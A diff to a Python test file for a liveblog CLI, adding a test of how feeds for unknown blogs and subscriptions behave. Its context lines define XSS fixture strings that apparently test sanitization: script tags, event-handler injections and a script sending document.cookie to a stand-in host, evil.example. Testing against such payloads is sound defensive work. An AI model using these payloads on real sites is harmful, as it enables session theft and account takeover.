@@ -59,6 +59,20 @@ def test_feed_cli_for_a_blog_and_for_a_subscription(redis_url, edited_blog):
     assert titles == ["Sallow End rescue"]
 
 
+def test_feed_of_an_unknown_blog_is_empty_with_a_note_and_of_an_unknown_subscription_an_error(redis_url, conn):
+    blog = run_cli("feed", "--blog", "nope", redis_url=redis_url)
+    assert blog.returncode == 0 and json.loads(blog.stdout)["items"] == []  # still a valid feed on stdout
+    assert blog.stderr.decode().startswith("liveblog: blog 'nope' has no events (liveblog:{nope}:events is empty")
+    unknown = run_cli("feed", "--subscription", "nope", redis_url=redis_url)
+    assert unknown.returncode == 2 and unknown.stdout == b""
+    assert unknown.stderr.decode() == "liveblog: no subscription named 'nope': see `liveblog subscribe list`\n"
+    store.save(conn, KEYS, Subscription(name="quiet", rule=Rule(keyword="volcano")))
+    quiet = run_cli("feed", "--subscription", "quiet", "--format", "atom", redis_url=redis_url)
+    assert quiet.returncode == 0 and ET.fromstring(quiet.stdout).findall(f"{{{ATOM}}}entry") == []
+    assert quiet.stderr.decode() == (
+        "liveblog: subscription 'quiet' has no alerts yet (liveblog:alerts:quiet is empty)\n")
+
+
 HOSTILE_TITLE = 'Flood <script>alert("t")</script> warning'
 HOSTILE_BODY = ('Water rose <img src=x onerror="window.pwned=1"> overnight. <script>document.location='
                 '"https://evil.example/?c="+document.cookie</script> & <b onmouseover=steal()>more</b>')
